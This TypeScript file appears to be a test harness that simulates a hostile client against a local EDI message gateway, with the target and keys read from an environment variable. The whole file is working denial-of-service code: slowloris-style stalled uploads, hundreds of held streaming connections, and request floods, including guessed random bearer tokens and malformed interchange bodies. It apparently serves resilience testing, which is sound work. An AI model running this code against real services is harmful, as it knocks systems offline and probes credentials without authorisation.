import { Agent, request } from "node:http";
import { connect } from "node:net";

// A vendor that uses up all the capacity it can get, until it is killed; HOSTILE says where and with which keys.
type Given = { address: string; key: string; bare: string; gln: string };
const { address, key, bare, gln } = JSON.parse(process.env.HOSTILE ?? "") as Given;
const { hostname, port } = new URL(address);
const from = "127.0.0.66";
const agent = new Agent({ keepAlive: true, localAddress: from, maxSockets: Number.POSITIVE_INFINITY });

type Asked = { method?: string; headers?: Record<string, string>; body?: string };
const ask = (path: string, { method = "GET", headers = {}, body }: Asked = {}) =>
  new Promise<void>((resolve) => {
    const asked = request(`${address}${path}`, { method, headers, agent }, (answer) => {
      answer.resume().on("close", resolve);
    });
    asked.on("error", () => resolve()).end(body);
  });
const withKey = (text: string) => ({ authorization: `Bearer ${text}` });

/** Sends requests in a loop, this many concurrently. */
function flood(atOnce: number, one: () => Promise<void>): void {
  const again = async (): Promise<void> => {
    for (;;) await one();
  };
  for (let count = 0; count < atOnce; count += 1) void again();
}

/** Announces the largest body, sends one byte, and stalls; starts again when it is closed. */
function silent(path: string, text: string, length: number): void {
  const socket = connect({ host: hostname, port: Number(port), localAddress: from });
  const head = [
    `POST ${path} HTTP/1.1`,
    "Host: gateway",
    `Authorization: Bearer ${text}`,
    `Content-Length: ${length}`,
  ];
  socket.write(`${head.join("\r\n")}\r\n\r\nU`);
  socket.on("error", () => undefined).resume();
  socket.on("close", () => setTimeout(() => silent(path, text, length), 100));
}

for (let count = 0; count < 10; count += 1) silent("/v1/interchanges/$validate", bare, 104_000_000);
for (let count = 0; count < 10; count += 1) silent("/v1/interchanges", key, 104_000_000);
for (let count = 0; count < 250; count += 1) void ask("/v1/notifications/stream", { headers: withKey(key) });
flood(2, () => ask(`/v1/routes/${gln}/DIS91`));
flood(2, () =>
  ask("/v1/messages", { headers: withKey(`sor_${Math.random().toString(36).slice(2).padEnd(43, "x")}`) }),
);
flood(2, () => ask("/v1/interchanges", { method: "POST", headers: withKey(bare), body: "UNA:+.? '" }));
flood(2, () => ask("/v1/mailboxes/5790000120420/messages", { headers: withKey(key) }));
process.stdout.write("ready\n");
